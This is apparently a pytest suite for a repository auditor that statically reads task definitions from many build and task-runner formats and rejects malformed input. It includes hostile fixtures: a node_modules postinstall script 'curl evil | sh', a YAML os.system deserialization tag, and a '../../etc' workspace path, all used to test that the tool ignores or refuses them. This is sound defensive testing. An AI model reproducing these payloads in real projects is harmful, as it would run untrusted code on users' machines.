"""Task-runner facts, built from literal file trees (no git, nothing executed)."""

from __future__ import annotations

import json
import textwrap

import pytest

from auditor.facts.tasks import MAX_COMMAND, RUNNERS, Task, TaskFacts, collect_tasks
from auditor.facts.tree import FileTree


def tasks(files: dict[str, str]) -> TaskFacts:
    return collect_tasks(FileTree.from_mapping({k: textwrap.dedent(v) for k, v in files.items()}))


def table(f: TaskFacts, runner: str | None = None) -> list[tuple[str, str, int | None]]:
    return [(t.name, t.command, t.line) for t in f.tasks if runner is None or t.runner == runner]


# -- npm -------------------------------------------------------------------------------------------

ROOT_PACKAGE = """\
{
  "name": "monorepo",
  "private": true,
  "workspaces": ["apps/*", "packages/*", "!packages/legacy"],
  "scripts": {
    "test": "turbo run test",
    "lint": "eslint .",
    "build": "turbo run build",
    "e2e": "playwright test"
  }
}
"""


def test_npm_scripts_keep_file_order_and_read_workspaces():
    f = tasks(
        {
            "package.json": ROOT_PACKAGE,
            "apps/web/package.json": '{"scripts": {"dev": "next dev", "test": "jest --coverage"}}',
            "packages/ui/package.json": '{"scripts": {"build": "tsup"}}',
            "packages/legacy/package.json": '{"scripts": {"old": "gulp"}}',
            "examples/demo/package.json": '{"scripts": {"demo": "node ."}}',
            "node_modules/x/package.json": '{"scripts": {"postinstall": "curl evil | sh"}}',
        }
    )
    assert table(f) == [
        ("test", "turbo run test", 6),
        ("lint", "eslint .", 7),
        ("build", "turbo run build", 8),
        ("e2e", "playwright test", 9),
        ("dev", "next dev", 1),
        ("test", "jest --coverage", 1),
        ("build", "tsup", 1),
    ]
    assert [t.path for t in f.tasks][-3:] == [
        "apps/web/package.json",
        "apps/web/package.json",
        "packages/ui/package.json",
    ]
    assert {t.runner for t in f.tasks} == {"npm-scripts"}


def test_pnpm_workspace_yaml_adds_members():
    f = tasks(
        {
            "package.json": '{"scripts": {"test": "vitest"}}',
            "pnpm-workspace.yaml": "packages:\n  - 'services/**'\n",
            "services/api/deep/package.json": '{"scripts": {"start": "node server.js"}}',
        }
    )
    assert [(t.path, t.name) for t in f.tasks] == [
        ("package.json", "test"),
        ("services/api/deep/package.json", "start"),
    ]


def test_named_and_runs_queries():
    f = tasks({"package.json": ROOT_PACKAGE})
    assert [t.name for t in f.named("TEST*", "e2e")] == ["test", "e2e"]
    assert [t.name for t in f.runs(r"\bPLAYWRIGHT\b")] == ["e2e"]
    assert f.named("deploy") == [] and f.runs("cypress") == []


# -- make ------------------------------------------------------------------------------------------

MAKEFILE = """\
.PHONY: help test lint build
.DEFAULT_GOAL := help
PYTHON ?= python3
SRC := src

help: ## show this help
\t@grep -E '^[a-z]+:' $(MAKEFILE_LIST)

test: install
\t# run the suite
\t@$(PYTHON) -m pytest \\
\t\t-q tests/

lint fmt:
\t-ruff check .

%.o: %.c
\t$(CC) -c $<

.venv:
\tpython3 -m venv .venv

build: ; docker build -t app .

deploy: export ENV = prod
deploy:
\t./scripts/deploy.sh

install::
\tpip install -e .

define BANNER
fake: target
endef
"""


def test_makefile_targets_first_recipe_line_and_skips():
    f = tasks(
        {
            "Makefile": MAKEFILE,
            "ci.mk": "ci-check:\n\tmake lint test\n",
            "docs/Makefile": "html:\n\tsphinx-build . _build\n",
        }
    )
    assert table(f, "make") == [
        ("help", "grep -E '^[a-z]+:' $(MAKEFILE_LIST)", 6),
        ("test", "$(PYTHON) -m pytest -q tests/", 9),
        ("lint", "ruff check .", 14),
        ("fmt", "ruff check .", 14),
        ("build", "docker build -t app .", 23),
        ("deploy", "./scripts/deploy.sh", 26),
        ("install", "pip install -e .", 29),
        ("ci-check", "make lint test", 1),
    ]
    names = {t.name for t in f.tasks}
    assert not names & {".PHONY", ".DEFAULT_GOAL", "PYTHON", "SRC", "%.o", ".venv", "fake", "html"}
    assert [t.path for t in f.tasks if t.name == "ci-check"] == ["ci.mk"]


# -- just, Taskfile --------------------------------------------------------------------------------


def test_justfile_recipes_with_parameters_attributes_and_shebangs():
    f = tasks(
        {
            "justfile": """\
        set dotenv-load := true
        alias t := test
        version := "1.0"

        # run the tests
        test *args: build
            cargo nextest run {{args}}

        [private]
        @build profile="dev":
            cargo build --profile {{profile}}

        release:
            #!/usr/bin/env bash
            set -euo pipefail
            cargo release

        empty:
        """
        }
    )
    assert table(f, "just") == [
        ("test", "cargo nextest run {{args}}", 6),
        ("build", "cargo build --profile {{profile}}", 10),
        ("release", "set -euo pipefail", 13),
        ("empty", "", 18),
    ]


def test_taskfile_tasks_in_every_shape():
    f = tasks(
        {
            "Taskfile.yml": """\
        version: '3'
        vars:
          test: not-a-task
        tasks:
          default:
            cmds:
              - task: lint
          lint:
            desc: Lint
            cmds:
              - golangci-lint run
              - cmd: go vet ./...
          test: go test -race ./...
          "build:docker":
            cmd: docker build .
          many:
            - echo one
            - echo two
        """
        }
    )
    assert table(f, "task") == [
        ("default", "task lint", 5),
        ("lint", "golangci-lint run; go vet ./...", 8),
        ("test", "go test -race ./...", 13),
        ("build:docker", "docker build .", 14),
        ("many", "echo one; echo two", 16),
    ]


# -- tox, nox --------------------------------------------------------------------------------------


def test_tox_ini_envlist_brace_expansion_and_sections():
    f = tasks(
        {
            "tox.ini": """\
        [tox]
        envlist = py{311,312}-django{42,50}, lint
        isolated_build = true

        [testenv]
        deps = pytest
        commands =
            pytest {posargs:tests}
            coverage report

        [testenv:lint]
        commands = ruff check .

        [testenv:{docs,docs-live}]
        commands = sphinx-build docs build
        """
        }
    )
    assert table(f, "tox") == [
        ("py311-django42", "pytest {posargs:tests}; coverage report", 2),
        ("py311-django50", "pytest {posargs:tests}; coverage report", 2),
        ("py312-django42", "pytest {posargs:tests}; coverage report", 2),
        ("py312-django50", "pytest {posargs:tests}; coverage report", 2),
        ("lint", "ruff check .", 11),
        ("docs", "sphinx-build docs build", 14),
        ("docs-live", "sphinx-build docs build", 14),
    ]


def test_tox_in_pyproject_legacy_and_native_forms():
    legacy = tasks(
        {
            "pyproject.toml": '''\
        [tool.tox]
        legacy_tox_ini = """
        [tox]
        envlist = py312

        [testenv]
        commands = pytest
        """
        '''
        }
    )
    assert [(t.runner, t.name, t.command, t.path) for t in legacy.tasks] == [
        ("tox", "py312", "pytest", "pyproject.toml")
    ]

    native = tasks(
        {
            "tox.toml": """\
        env_list = ["3.12", "type"]

        [env_run_base]
        commands = [["pytest", { replace = "posargs", default = ["tests"] }]]

        [env.type]
        commands = [["mypy", "src"]]
        """
        }
    )
    assert table(native, "tox") == [("3.12", "pytest {posargs}", 1), ("type", "mypy src", 6)]


def test_noxfile_sessions_are_found_by_pattern_not_executed():
    f = tasks(
        {
            "noxfile.py": """\
        import nox
        from nox import session

        raise SystemExit("importing this file would be a bug")

        @nox.session(python=["3.11", "3.12"])
        def tests(session: nox.Session) -> None:
            session.install(".[test]")
            session.run("pytest", "--cov", env={"X": "1"})

        @session(name="lint-all", reuse_venv=True)
        def lint(s):
            s.run("ruff", "check", ".")
            s.run("mypy", "src")

        @nox.session
        def docs(
            session,
        ) -> None:
            session.run(*ARGS)

        def helper(session):
            session.run("not-a-session")
        """
        }
    )
    assert table(f, "nox") == [
        ("tests", "pytest --cov", 7),
        ("lint-all", "ruff check .; mypy src", 12),
        ("docs", "", 17),
    ]


# -- pyproject scripts, composer, hatch.toml -------------------------------------------------------


def test_poetry_hatch_and_pdm_scripts():
    f = tasks(
        {
            "pyproject.toml": """\
        [tool.poetry.scripts]
        billing = "billing.cli:main"
        worker = { reference = "billing.worker:run", type = "console" }

        [tool.hatch.envs.default.scripts]
        test = "pytest {args}"
        cov = ["coverage run -m pytest", "coverage report"]

        [tool.hatch.envs.lint.scripts]
        style = "ruff check ."

        [tool.pdm.scripts]
        _.env_file = ".env"
        start = "flask run"
        migrate = { cmd = ["alembic", "upgrade", "head"] }
        check = { composite = ["lint", "test"] }
        """
        }
    )
    assert [(t.runner, t.name, t.command, t.line) for t in f.tasks] == [
        ("hatch", "test", "pytest {args}", 6),
        ("hatch", "cov", "coverage run -m pytest; coverage report", 7),
        ("hatch", "lint:style", "ruff check .", 10),
        ("pdm", "start", "flask run", 14),
        ("pdm", "migrate", "alembic upgrade head", 15),
        ("pdm", "check", "lint; test", 16),
        ("poetry-scripts", "billing", "billing.cli:main", 2),
        ("poetry-scripts", "worker", "billing.worker:run", 3),
    ]


def test_hatch_toml_scripts():
    f = tasks({"hatch.toml": '[envs.docs.scripts]\nbuild = "mkdocs build --strict"\n'})
    assert [(t.runner, t.name, t.command, t.path, t.line) for t in f.tasks] == [
        ("hatch", "docs:build", "mkdocs build --strict", "hatch.toml", 2)
    ]


def test_composer_scripts():
    f = tasks(
        {
            "composer.json": json.dumps(
                {
                    "name": "acme/shop",
                    "scripts": {
                        "test": "phpunit",
                        "analyse": ["@php vendor/bin/phpstan analyse", "@test"],
                    },
                },
                indent=2,
            )
        }
    )
    assert table(f, "composer-scripts") == [
        ("test", "phpunit", 4),
        ("analyse", "@php vendor/bin/phpstan analyse; @test", 5),
    ]


# -- Rake, invoke, mise ----------------------------------------------------------------------------


def test_rakefile_tasks_namespaces_and_task_classes():
    f = tasks(
        {
            "Rakefile": """\
        require "rspec/core/rake_task"

        RSpec::Core::RakeTask.new(:spec)
        RuboCop::RakeTask.new

        desc "Run everything"
        task default: %i[spec rubocop]

        namespace :db do
          desc "Migrate"
          task :migrate => :environment do
            sh "bin/rails db:migrate"
          end

          task "seed" do |t|
            if ENV["FAST"]
              puts "fast"
            end
            system("bin/seed --all")
          end
        end

        task(:lint) { sh "standardrb" }
        """,
            "rakelib/release.rake": "task :release do\n  sh 'gem build'\nend\n",
        }
    )
    assert table(f, "rake") == [
        ("spec", "RSpec::Core::RakeTask", 3),
        ("rubocop", "RuboCop::RakeTask", 4),
        ("default", "", 7),
        ("db:migrate", "bin/rails db:migrate", 11),
        ("db:seed", "bin/seed --all", 15),
        ("lint", "standardrb", 23),
        ("release", "gem build", 1),
    ]


def test_invoke_tasks_py_and_celery_lookalike():
    invoke = tasks(
        {
            "tasks.py": """\
        from invoke import task

        @task
        def build_docs(c):
            c.run("mkdocs build")

        @task(name="test", help={"k": "filter"})
        def run_tests(ctx, k=""):
            ctx.run(f"pytest -k {k}", pty=True)
        """
        }
    )
    assert table(invoke, "invoke") == [
        ("build-docs", "mkdocs build", 4),
        ("test", "pytest -k {k}", 8),
    ]

    celery = tasks(
        {"tasks.py": "from celery import shared_task\n\n@app.task\ndef send(x):\n    pass\n"}
    )
    assert celery.tasks == ()


def test_mise_tasks():
    f = tasks(
        {
            ".mise.toml": """\
        [tools]
        node = "20"

        [tasks.test]
        run = "npm test"

        [tasks."db:reset"]
        run = ["dropdb app", "createdb app"]

        [tasks]
        fmt = "prettier -w ."
        """
        }
    )
    assert table(f, "mise") == [
        ("test", "npm test", 4),
        ("db:reset", "dropdb app; createdb app", 7),
        ("fmt", "prettier -w .", 11),
    ]


# -- whole-tree properties -------------------------------------------------------------------------


def test_every_runner_is_reported_and_order_is_root_first_then_deterministic():
    files = {
        "package.json": '{"workspaces": ["apps/*"], "scripts": {"test": "jest"}}',
        "Makefile": "test:\n\tpytest\n",
        "justfile": "test:\n    cargo test\n",
        "Taskfile.yml": "version: '3'\ntasks:\n  test: go test ./...\n",
        "tox.ini": "[tox]\nenvlist = py\n[testenv]\ncommands = pytest\n",
        "noxfile.py": "import nox\n@nox.session\ndef tests(session):\n    session.run('pytest')\n",
        "pyproject.toml": '[tool.poetry.scripts]\napp = "a:b"\n[tool.hatch.envs.default.scripts]\n'
        't = "pytest"\n[tool.pdm.scripts]\nt = "pytest"\n',
        "composer.json": '{"scripts": {"test": "phpunit"}}',
        "Rakefile": "task :test do\n  sh 'rspec'\nend\n",
        "tasks.py": "from invoke import task\n@task\ndef test(c):\n    c.run('pytest')\n",
        "mise.toml": '[tasks.test]\nrun = "pytest"\n',
        "apps/a/package.json": '{"scripts": {"x": "y"}}',
    }
    f = tasks(files)
    assert {t.runner for t in f.tasks} == set(RUNNERS)
    # Root sources first; the workspace package comes last.
    assert f.tasks[-1].path == "apps/a/package.json"
    assert all(t.path.count("/") == 0 for t in f.tasks[:-1])
    assert f == tasks(dict(reversed(list(files.items()))))
    assert len(f.runs("pytest")) == 7
    assert f.rejected == ()


def test_long_commands_are_cut_and_flattened():
    f = tasks(
        {"package.json": json.dumps({"scripts": {"big": "echo " + "x" * 1000, "multi": "a\nb"}})}
    )
    big, multi = f.tasks
    assert len(big.command) == MAX_COMMAND and big.command.startswith("echo xxx")
    assert multi.command == "a; b"


# -- malformed and hostile input -------------------------------------------------------------------


@pytest.mark.parametrize(
    "path,content,reason",
    [
        ("package.json", "{", "invalid JSON"),
        ("package.json", '"just a string"', "top level is a string, expected an object"),
        ("package.json", '{"scripts": ["test"]}', "scripts is a list, expected an object"),
        ("composer.json", '{"scripts": "phpunit"}', "scripts is a string, expected an object"),
        ("Taskfile.yml", "tasks: [unclosed", "invalid YAML"),
        ("Taskfile.yml", "- a\n- b\n", "top level is a list, expected a mapping"),
        ("Taskfile.yml", "tasks:\n  - build\n", "tasks is a list, expected a table"),
        ("Taskfile.yml", "a: &a [*a, *a]\ntasks: !!python/object:os.system {}\n", "refused"),
        ("pyproject.toml", "[tool.pdm\nscripts = 1", "invalid TOML"),
        (
            "pyproject.toml",
            "[tool.pdm]\nscripts = 3\n",
            "[tool.pdm.scripts] is a number, expected a table",
        ),
        ("pyproject.toml", '[tool]\nhatch = "x"\n', "[tool.hatch] is a string, expected a table"),
        ("tox.ini", "envlist = py\n", "invalid tox INI"),
        (".mise.toml", "tasks = 1\n", "[tasks] is a number, expected a table"),
        ("pnpm-workspace.yaml", "packages: [", "invalid YAML"),
    ],
)
def test_malformed_sources_are_rejected_with_a_one_line_reason(path, content, reason):
    f = tasks({path: content})
    ((where, why),) = f.rejected
    assert where == path
    assert reason in why
    assert "\n" not in why
    assert f.tasks == ()


def test_one_broken_source_does_not_hide_the_others():
    f = tasks(
        {
            "package.json": "{broken",
            "Makefile": "test:\n\tpytest\n",
            "apps/x/package.json": '{"scripts": {"a": "b"}}',
        }
    )
    assert [t.name for t in f.tasks] == ["test"]
    assert [p for p, _ in f.rejected] == ["package.json"]


def test_hostile_shapes_inside_valid_documents_are_ignored():
    f = tasks(
        {
            "package.json": json.dumps(
                {
                    "scripts": {"ok": "run", "obj": {"x": 1}, "": "empty", "n": None},
                    "workspaces": {"packages": [1, None, "../../etc", "/abs", "pk*"]},
                }
            ),
            "Taskfile.yml": (
                "tasks:\n  1: echo\n  weird: {cmds: 3}\n  nested: {cmds: [{cmd: [1]}, 7, null]}\n"
            ),
            "pyproject.toml": (
                '[tool.pdm.scripts]\na = 1\nb = {cmd = 5}\n[tool.poetry]\nscripts = ["x"]\n'
            ),
            "pk1/package.json": '{"scripts": {"w": "x"}}',
        }
    )
    assert {(t.runner, t.name, t.command) for t in f.tasks} == {
        ("npm-scripts", "ok", "run"),
        ("npm-scripts", "obj", ""),
        ("npm-scripts", "n", ""),
        ("npm-scripts", "w", "x"),
        ("task", "weird", ""),
        ("task", "nested", ""),
        ("pdm", "a", ""),
        ("pdm", "b", ""),
    }
    assert f.rejected == (("pyproject.toml", "[tool.poetry.scripts] is a list, expected a table"),)


def test_unreadable_sources_are_reported_not_silently_empty():
    f = collect_tasks(FileTree.from_mapping({"Makefile": b"test:\n\x00\x01binary"}))
    assert f.tasks == ()
    assert f.rejected == (("Makefile", "not read: binary"),)


def test_makefile_with_pathological_lines_stays_fast_and_bounded():
    text = (
        "a" * 50_000 + " b" * 10_000 + "\n" + "".join(f"t{i}:\n\techo {i}\n" for i in range(2100))
    )
    f = tasks({"Makefile": text})
    assert len(f.tasks) == 2000
    assert f.rejected == (("Makefile", "more than 2000 tasks; the rest were not read"),)
    assert f.tasks[0] == Task("make", "t0", "echo 0", "Makefile", 2)
